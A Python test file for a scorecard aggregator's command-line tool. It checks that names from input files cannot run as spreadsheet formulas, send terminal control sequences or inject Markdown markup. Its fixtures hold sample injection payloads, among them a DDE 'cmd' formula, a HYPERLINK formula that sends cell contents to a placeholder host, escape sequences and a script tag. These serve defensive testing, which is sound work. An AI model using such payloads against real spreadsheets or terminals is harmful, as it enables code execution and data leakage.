"""Names from the input never act where they are written (issue #17, items 3, 4, 5).

Run ids, sample keys and conditions are whatever the scorecards hold. In a spreadsheet they
must not run as formulas (``--spreadsheet-safe``), on a terminal they must not send control
sequences, and in Markdown they must not add columns, rows, headings or markup.
"""

from __future__ import annotations

import csv
import io
import json
import re
from itertools import groupby
from pathlib import Path

import polars as pl
import pytest

from aggregator.text import FORMULA_PREFIX, FORMULA_STARTS, is_number, md_code, md_text, printable
from tests.conftest import run_cli
from tests.scorecard_rows import item, row, write_rows

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tq", "\rr",
            "＝1+1"]
TERMINAL = "\x1b]0;pwned\x07\x1b[2J\x9b31m\r\u202eevil"
MARKDOWN = "a|b\nc `d` <script>x</script> *e* [f](javascript:g) # h"
CSV_FILES = ("runs.csv", "conditions.csv", "paired.csv", "flips.csv", "self_consistency.csv", "per_sample_merged.csv")


def hostile_run(path: Path, run_id: str, keys: list[str], flip: int) -> Path:
    rows = [row(key, gold=[item("본품#일반", f"t{j}")], final=[item("본품#일반", f"t{j}" if (j + flip) % 3 else "x")],
                run_id=run_id) for j, key in enumerate(keys)]
    return write_rows(path / "scorecards.jsonl", rows)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Four runs in two conditions named by formulas, control sequences and Markdown, keyed by formulas."""
    root = tmp_path_factory.mktemp("hostile")
    keys = [*FORMULAS, TERMINAL, MARKDOWN, "plain"]
    conditions = [FORMULAS[0] + TERMINAL, MARKDOWN]
    return [hostile_run(root / f"run{i}", f"{conditions[i % 2]}__seed{i}", keys, i) for i in range(4)]


def cells(data: bytes) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in line]


def runs_formula(cell: str) -> bool:
    return cell[:1] in tuple(FORMULA_STARTS) and not is_number(cell)


def test_csv_and_parquet_stay_exact_by_default(hostile: list[Path], tmp_path: Path) -> None:
    done = run_cli(hostile[0], "--outdir", tmp_path / "run", "--quiet")
    assert done.returncode == 0, done.stderr
    keys = pl.read_csv(tmp_path / "run" / "per_sample.csv", infer_schema=False).get_column("sample_key").to_list()
    assert set(FORMULAS) <= set(keys)
    assert pl.read_parquet(tmp_path / "run" / "per_sample.parquet").get_column("sample_key").to_list() == keys


def test_spreadsheet_safe_csv_cells_never_start_a_formula(hostile: list[Path], tmp_path: Path) -> None:
    run = run_cli(hostile[0], "--outdir", tmp_path / "run", "--quiet", "--spreadsheet-safe")
    compare = run_cli("compare", *hostile, "--outdir", tmp_path / "cmp", "--resamples", "20", "-q", "--spreadsheet-safe")
    assert run.returncode == compare.returncode == 0, run.stderr + compare.stderr
    files = [tmp_path / "run" / "per_sample.csv", *(tmp_path / "cmp" / name for name in CSV_FILES)]
    for path in files:
        found = cells(path.read_bytes())
        assert not [cell for cell in found if runs_formula(cell)], path.name
    keys = pl.read_csv(files[0], infer_schema=False).get_column("sample_key").to_list()
    assert {FORMULA_PREFIX + key for key in FORMULAS} <= set(keys)
    merged = pl.read_csv(tmp_path / "cmp" / "per_sample_merged.csv", infer_schema=False)
    assert any(name.startswith(FORMULA_PREFIX + "=HYPERLINK") for name in merged.columns)
    exact = pl.read_parquet(tmp_path / "run" / "per_sample.parquet").get_column("sample_key").to_list()
    assert set(FORMULAS) <= set(exact)
    assert json.loads((tmp_path / "run" / "run_metadata.json").read_text())["spreadsheet_safe"] is True


def only_printable(text: str) -> bool:
    return all(ch.isprintable() or ch == "\n" for ch in text)


def test_nothing_printed_to_the_terminal_holds_a_control_character(hostile: list[Path], tmp_path: Path) -> None:
    """Summary lines, comparison notes, JSON, skipped lines and error lines."""
    skipping = hostile_run(tmp_path / "skipping", TERMINAL, ["k1", "k2"], 0)
    with open(skipping, "a", encoding="utf-8") as handle:
        handle.write(json.dumps({"meta": {"text_id": TERMINAL}, "gold_tuples": [{"polarity": TERMINAL}]}) + "\n")
    outputs = [
        run_cli(hostile[0], "--outdir", tmp_path / "a"),
        run_cli(skipping, "--outdir", tmp_path / "b", "--skip-bad-lines"),
        run_cli(hostile[0], "--outdir", tmp_path / "c", "--json"),
        run_cli("compare", *hostile, "--outdir", tmp_path / "d", "--resamples", "20"),
        run_cli("compare", *hostile, "--outdir", tmp_path / "e", "--resamples", "20", "--json"),
        run_cli(tmp_path / TERMINAL, "--outdir", tmp_path / "f"),
        run_cli(hostile[0], "--outdir", tmp_path / TERMINAL / "x", "--quiet", "--json"),
    ]
    for done in outputs:
        assert "Traceback" not in done.stderr, done.stderr
        assert only_printable(done.stdout) and only_printable(done.stderr), (done.stdout + done.stderr)[:500]
    assert printable(TERMINAL) in outputs[0].stdout and printable(TERMINAL) in outputs[1].stderr
    assert json.loads(outputs[2].stdout)["runs"][0]["run_ids"] == [f"{FORMULAS[0]}{TERMINAL}__seed0"]
    assert outputs[5].returncode == 2 and printable(TERMINAL) in outputs[5].stderr


TABLE_ROW = re.compile(r"^\|.*\|$")


def table_blocks(markdown: str) -> list[list[str]]:
    """The runs of consecutive lines that start with ``|``."""
    return [list(lines) for is_table, lines in groupby(markdown.split("\n"), lambda line: line.startswith("|")) if is_table]


def columns(line: str) -> int:
    """Cells of a GFM table row: ``|`` not escaped by a backslash separates them."""
    return len(re.findall(r"(?<!\\)\|", line)) - 1


def test_markdown_tables_keep_their_shape_whatever_the_names(hostile: list[Path], tmp_path: Path) -> None:
    assert run_cli("compare", *hostile, "--outdir", tmp_path / "cmp", "--resamples", "20", "-q").returncode == 0
    assert run_cli(hostile[1], "--outdir", tmp_path / "run", "--quiet").returncode == 0
    comparison = (tmp_path / "cmp" / "comparison.md").read_text(encoding="utf-8")
    blocks = table_blocks(comparison)
    assert len(blocks) >= 3
    for block in blocks:
        assert all(TABLE_ROW.match(line) and columns(line) == columns(block[0]) for line in block), block
    headings = [line for line in comparison.split("\n") if line.startswith("#")]
    assert all(line.startswith(("# Run comparison", "## ", "### ")) for line in headings), headings
    assert "<script>" not in comparison.replace(md_code(MARKDOWN), "").replace(md_code(MARKDOWN, in_table=True), "")
    table = (tmp_path / "run" / "structural_metrics_table.md").read_text(encoding="utf-8")
    first, _, rest = table.partition("\n")
    assert first == f"# Structural metrics — {md_code(MARKDOWN + '__seed1')}"
    assert "<script>" not in rest.replace(md_code(MARKDOWN + "__seed1"), "")


@pytest.mark.parametrize("name", [MARKDOWN, "``x``", "` y", "| a |", "", " ", "plain"])
def test_a_code_span_holds_any_name_on_one_line(name: str) -> None:
    span = md_code(name, in_table=True)
    assert "\n" not in span and "|" not in span.replace("\\|", "")
    fence = re.match(r"`+", span)
    assert name == "" or fence and span.endswith(fence.group()) and fence.group() not in span[len(fence.group()):-len(fence.group())]


def test_prose_escapes_every_markup_character() -> None:
    text = md_text("1. a_b _c_ *d* [e](f) <g> `h` | i ~j~ &amp;\n# k")
    newline = "\\\\n"  # the newline as its escape \\n, whose backslash is escaped in turn
    assert text == "1\\. a_b \\_c\\_ \\*d\\* \\[e\\](f) \\<g\\> \\`h\\` \\| i \\~j\\~ \\&amp;" + newline + "# k"
